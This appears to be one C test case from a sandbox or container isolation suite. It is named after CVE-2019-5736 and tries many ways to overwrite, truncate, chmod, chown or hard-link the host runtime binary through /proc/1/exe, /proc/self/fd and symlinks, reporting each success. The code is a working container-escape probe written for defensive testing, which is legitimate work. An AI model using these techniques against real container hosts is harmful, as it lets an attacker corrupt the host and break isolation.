/* CVE-2019-5736: the program behind /proc/self/exe is overwritten, by itself or when it is free. Also linked, renamed, truncated, given away. The suite compares the host's file afterwards. */
#include "attack.h"
/* The guest's own program is the guest's file. */
static int is_own(int fd) {
    struct stat a, b;
    return fstat(fd, &a) == 0 && stat(HOME "runtime_overwritten", &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}
static void use(const char *how, int fd) {
    if (fd < 0 || is_own(fd)) return;
    if (write(fd, "#!/bin/sh\n", 10) > 0) won("%s: it was written", how);
    if (ftruncate(fd, 0) == 0) won("%s: it was cut off", how);
    if (fchmod(fd, 0777) == 0) won("%s: its mode was changed", how);
    close(fd);
}
static void attack(void) {
    char path[64], exe[64];
    const char *names[] = {"/proc/1/exe", "/proc/self/task/1/exe", "/proc/self/root/proc/self/exe", "/tmp/link"};
    MUST(symlink("/proc/1/exe", "/tmp/link"));
    for (int i = 0; i < 4; i++) {
        const char *name = names[i];
        for (int flags = O_WRONLY; flags <= O_RDWR; flags++) {
            use(name, open(name, flags | O_CLOEXEC)); use(name, open(name, flags | O_TRUNC | O_CLOEXEC)); use(name, open(name, flags | O_APPEND | O_CLOEXEC));
            int named = open(name, O_PATH | O_CLOEXEC);
            snprintf(path, sizeof path, "/proc/self/fd/%d", named);
            use("reopened", open(path, flags | O_CLOEXEC));
            use("by chmod", fchmodat(AT_FDCWD, path, 0777, 0) == 0 ? named : -1);
            if (fchownat(named, "", 1, 1, AT_EMPTY_PATH) == 0 && getpid() != 1) note("%s was given away", name);
        }
        unlink("/tmp/hard");
        if (linkat(AT_FDCWD, name, AT_FDCWD, "/tmp/hard", AT_SYMLINK_FOLLOW) == 0) won("%s was linked", name);
        if (truncate(name, 0) == 0) won("%s was truncated", name);
    }
    /* A process that waits until the file is free: only natively is it the guest's own. */
    ssize_t n = readlink("/proc/1/exe", exe, sizeof exe - 1);
    if (n > 0) { exe[n] = 0; if (strstr(exe, "vkernel")) won("/proc/1/exe says %s", exe); }
}
static void twin(void) {
    char magic[4] = "";
    int fd = MUST(open("/proc/self/exe", O_RDONLY | O_CLOEXEC));
    if (read(fd, magic, 4) != 4 || memcmp(magic, ELFMAG, 4)) exit(4);
    copy(GOOD, "/tmp/own", 0755);
    fd = MUST(open("/tmp/own", O_WRONLY | O_CLOEXEC));
    if (write(fd, "x", 1) != 1) exit(4);
}
